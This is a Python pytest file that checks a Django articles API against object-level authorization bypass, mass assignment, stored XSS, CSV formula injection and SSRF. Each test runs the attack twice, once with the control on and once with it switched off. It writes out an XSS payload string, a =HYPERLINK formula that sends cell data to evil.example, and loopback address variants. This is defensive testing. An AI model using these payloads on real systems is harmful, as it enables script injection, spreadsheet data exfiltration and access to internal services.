"""Attacks on articles over HTTP. Each is tried twice: it fails, and with its control switched off it works.

The second is what tells that the first would notice a control that is gone.
"""

import csv
import io
import types
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any, cast

import pytest
from django.core.mail import EmailMessage
from django.http import StreamingHttpResponse
from pytest_django import Settings

from articles import exporting, serializers
from articles.models import Article
from articles.policies import ArticlePolicy
from auditlog.models import Event
from authz.policies import Policy, allow
from authz.registry import register, unregister
from tests.accounts.browser import Browser
from tests.edge.outbound.servers import Server, answer, serving

from .main_job import ARTICLES, BODY, fields, member, sent, write

pytestmark = pytest.mark.django_db


@pytest.fixture
def victim(mailoutbox: list[EmailMessage]) -> Browser:
    return member("victim@example.org", mailoutbox)


@pytest.fixture
def attacker(mailoutbox: list[EmailMessage]) -> Browser:
    return member("attacker@example.org", mailoutbox)


@contextmanager
def policy_instead(**options: Any) -> Iterator[None]:
    """Let everybody who has logged in do everything, as an API without object-level authorization does."""
    unregister(ArticlePolicy)
    everything = allow("authenticated")
    members = dict.fromkeys(("read", "create", "update", "publish", "delete"), everything)
    policy = types.new_class(
        "OpenPolicy", (Policy,), {"model": Article, **options}, lambda space: space.update(members)
    )
    try:
        yield
    finally:
        unregister(policy)
        register(ArticlePolicy)


# Broken object level authorization (OWASP API1:2023)


def reach(attacker: Browser, article: dict[str, Any]) -> dict[str, int]:
    """Try everything with an article of somebody else's, whose key and version have leaked."""
    url, match = f"{ARTICLES}{article['id']}/", {"If-Match": '"1"'}
    listed = sent(attacker.send("GET", ARTICLES), 200)["results"]
    return {
        "list": 200 if listed else 404,
        "read": attacker.send("GET", url).status_code,
        "change": attacker.send("PATCH", url, {"title": "Taken over"}, **match).status_code,
        "rewrite": attacker.send("PUT", url, fields(title="Taken over"), **{"If-Match": "*"}).status_code,
        "publish": attacker.send("POST", f"{url}publish", **{"If-Match": "*"}).status_code,
        "delete": attacker.send("DELETE", url, **{"If-Match": "*"}).status_code,
    }


def test_another_s_article_is_out_of_reach(victim: Browser, attacker: Browser) -> None:
    article = write(victim, title="The victim's plans")
    assert set(reach(attacker, article).values()) == {404}
    kept = Article.objects.get()
    assert (kept.title, kept.version) == ("The victim's plans", 1)
    denied = Event.objects.filter(type="authz.access_denied")
    assert {event.outcome for event in denied} == {"refused"}
    assert {event.actor_label for event in denied} == {"attacker@example.org"}
    assert len(denied) == 5


def test_it_is_the_policy_that_keeps_it_out_of_reach(victim: Browser, attacker: Browser) -> None:
    article = write(victim)
    with policy_instead():
        reached = reach(attacker, article)
    assert reached == {"list": 200, "read": 200, "change": 200, "rewrite": 200, "publish": 200, "delete": 204}


# Mass assignment (OWASP API3:2023)


def claim(attacker: Browser, victim: Browser) -> int:
    """Write an article under another's name, on legal hold, so that nobody can delete it."""
    author = sent(victim.send("GET", "me"), 200)["id"]
    extra = {"author": author, "legal_hold": True}
    return attacker.send("POST", ARTICLES, fields(**extra)).status_code


def test_fields_of_the_server_s_are_not_the_caller_s_to_set(victim: Browser, attacker: Browser) -> None:
    assert claim(attacker, victim) == 422
    assert not Article.objects.exists()
    refused = Event.objects.get(type="authz.field_refused")
    assert set(refused.data["fields"]) == {"author", "legal_hold"}


def test_it_is_the_allowlists_that_refuse_them(
    victim: Browser, attacker: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(serializers.ArticleSerializer.Meta, "read_only_fields", ("id", "tenant"))
    with policy_instead(tenant="tenant"):
        assert claim(attacker, victim) == 201
    stolen = Article.objects.get()
    assert (stolen.author.email, stolen.legal_hold) == ("victim@example.org", True)


# Stored cross-site scripting


SCRIPT = f"{BODY}<script>alert(1)</script><img src=x onerror=alert(2)><a href='javascript:alert(3)'>x</a>"


def stored(attacker: Browser) -> str:
    """Publish a script to everybody who reads the article, and return what they get."""
    article = write(attacker, body=SCRIPT)
    response = attacker.send("GET", f"{ARTICLES}{article['id']}/")
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    return str(sent(response, 200)["body"])


def test_a_script_in_an_article_is_not_kept(attacker: Browser) -> None:
    assert stored(attacker) == f'{BODY}<a rel="noopener noreferrer nofollow ugc">x</a>'


def test_it_is_the_sanitiser_that_takes_it_out(attacker: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(serializers, "clean_html", str)
    assert stored(attacker) == SCRIPT


# Formula injection into a spreadsheet


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def opened(attacker: Browser) -> str:
    """Write a title that is a formula and return what a spreadsheet reads from the export."""
    write(attacker, title=FORMULA)
    response = cast("StreamingHttpResponse", attacker.send("GET", f"{ARTICLES}export"))
    file = b"".join(cast("Iterator[bytes]", response.streaming_content)).decode()
    (row,) = csv.DictReader(io.StringIO(file, newline=""))
    return row["title"]


def test_a_title_is_no_formula_in_an_export(attacker: Browser) -> None:
    assert opened(attacker) == f"'{FORMULA}"
    exported = Event.objects.get(type="articles.articles_exported")
    assert exported.data["rows"] == 1


def test_it_is_the_apostrophe_that_makes_it_text(attacker: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporting, "_FORMULA", ("\0",))
    assert opened(attacker) == FORMULA


# Server-side request forgery (OWASP API7:2023)


@pytest.fixture
def inside(settings: Settings) -> Iterator[Server]:
    """A service inside, on this machine; only its port and plain http are let through, so that the address decides."""
    with serving(answer(b"<title>the secret inside</title>", content_type="text/html")) as server:
        settings.BULWARK_ARTICLES = {"PREVIEW_POLICY": {"schemes": ("http",), "ports": (server.port,)}}
        yield server


def look(attacker: Browser, server: Server, host: str) -> str:
    response = attacker.send("POST", "/api/v1/link-preview/", {"url": f"http://{host}:{server.port}/"})
    return response.content.decode()


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::ffff:127.0.0.1]", "2130706433", "127.1"])
def test_a_link_preview_does_not_reach_inside(attacker: Browser, inside: Server, host: str) -> None:
    assert "link_unavailable" in look(attacker, inside, host)
    assert (inside.connections, inside.seen) == (0, [])
    refused = Event.objects.get(type="edge.outbound_refused")
    assert refused.actor_label == "attacker@example.org"


def test_it_is_the_address_check_that_keeps_it_out(attacker: Browser, inside: Server, settings: Settings) -> None:
    policy = {**settings.BULWARK_ARTICLES["PREVIEW_POLICY"], "internal": ("127.0.0.0/8",)}
    settings.BULWARK_ARTICLES = {"PREVIEW_POLICY": policy}
    assert "the secret inside" in look(attacker, inside, "127.0.0.1")
